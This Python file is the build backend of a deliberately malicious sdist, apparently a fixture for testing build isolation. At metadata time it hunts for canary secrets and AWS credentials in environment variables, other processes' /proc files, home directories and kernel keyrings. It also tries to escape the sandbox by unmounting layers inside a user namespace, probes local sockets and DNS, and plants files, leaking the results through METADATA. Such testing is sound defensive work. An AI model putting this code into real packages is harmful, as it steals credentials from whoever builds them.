"""A build backend that looks for whatever it should not find; a file of a malicious sdist.

It is never imported here. Beside it lies ``known.json``, what an attacker may know of the victim's machine; what it
finds leaves through METADATA.
"""

import ctypes
import json
import os
import pathlib
import pwd
import socket

KNOWN = json.loads(pathlib.Path(__file__).with_name("known.json").read_text())

NEWNS, NEWUSER, NEWNET, DETACH, SEARCH = 0x00020000, 0x10000000, 0x40000000, 2, 10


def prepare_metadata_for_build_wheel(directory, config_settings=None):  # type: ignore[no-untyped-def]
    information = pathlib.Path(directory, "foo-1.0.dist-info")
    information.mkdir()
    found = {attempt.__name__: attempt() for attempt in ATTEMPTS}
    text = f"Metadata-Version: 2.1\nName: foo\nVersion: 1.0\n\n{json.dumps(found)}"
    information.joinpath("METADATA").write_text(text)
    return information.name


def own_environment() -> object:
    return [name for name, value in os.environ.items() if KNOWN["canary"] in value or name.startswith("AWS")]


def environments_of_others() -> object:
    found = []
    for path in pathlib.Path("/proc").glob("[0-9]*/environ"):
        try:
            found += [str(path)] if KNOWN["canary"].encode() in path.read_bytes() else []
        except OSError:
            continue
    return found


def memory_of_others() -> object:
    found = []
    for path in pathlib.Path("/proc").glob("[0-9]*/maps"):
        try:
            text = path.read_text()
        except OSError:
            continue
        found += [str(path)] if "ca_vendor" in text or "emulator" in text else []
    return found


def aws_files_by_home() -> object:
    return list_or_none(pathlib.Path(os.environ["HOME"], ".aws")) or list_or_none(pathlib.Path("~/.aws").expanduser())


def home_by_the_password_database() -> object:
    return list_or_none(pathlib.Path(pwd.getpwuid(os.getuid()).pw_dir, ".aws"))


def files_by_their_paths() -> object:
    return [path for path in KNOWN["files"] if readable(path)]


def files_below_what_hides_them() -> object:
    """Ask for a user namespace, with all rights in it, and take away what was laid over the files."""
    libc = ctypes.CDLL(None)
    child = os.fork()
    if child == 0:
        if libc.unshare(NEWUSER | NEWNS | NEWNET) == 0:
            for path in [*KNOWN["files"], KNOWN["scratch"]]:
                for parent in pathlib.Path(path).parents:
                    libc.umount2(str(parent).encode(), DETACH)
        os._exit(1 if any(map(readable, KNOWN["files"])) else 0)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) and "found"


def servers_on_loopback() -> object:
    return connect(socket.AF_INET, ("127.0.0.1", KNOWN["port"]))


def servers_on_sockets() -> object:
    return [address for address in KNOWN["sockets"] if connect(socket.AF_UNIX, address.replace("@", "\0"))]


def names_of_hosts() -> object:
    try:
        return socket.getaddrinfo("example.com", 443)[0][4][0]
    except OSError:
        return None


def keys_of_the_kernel() -> object:
    """Look for a key by its name in the session's keyring and in the user's."""
    libc, number = ctypes.CDLL(None), KNOWN["keyctl"]
    keys = [libc.syscall(number, SEARCH, keyring, b"user", KNOWN["key"].encode(), 0) for keyring in (-3, -4)]
    return [key for key in keys if key > 0]


def writable_places() -> object:
    found = []
    for place in KNOWN["places"]:
        path = pathlib.Path(place, "planted-by-a-build")
        try:
            path.touch()
        except OSError:
            continue
        found.append(place)
    return found


def readable(path: str) -> bool:
    try:
        return KNOWN["canary"] in pathlib.Path(path).read_text(errors="replace")
    except OSError:
        return False


def list_or_none(directory: pathlib.Path) -> object:
    try:
        return sorted(path.name for path in directory.iterdir())
    except OSError:
        return None


def connect(family: int, address: str | tuple[str, int]) -> object:
    try:
        with socket.socket(family, socket.SOCK_STREAM) as client:
            client.settimeout(5)
            client.connect(address)
            return client.recv(100).decode() or "connected"
    except OSError:
        return None


ATTEMPTS = (
    own_environment,
    environments_of_others,
    memory_of_others,
    aws_files_by_home,
    home_by_the_password_database,
    files_by_their_paths,
    files_below_what_hides_them,
    servers_on_loopback,
    servers_on_sockets,
    names_of_hosts,
    keys_of_the_kernel,
    writable_places,
)
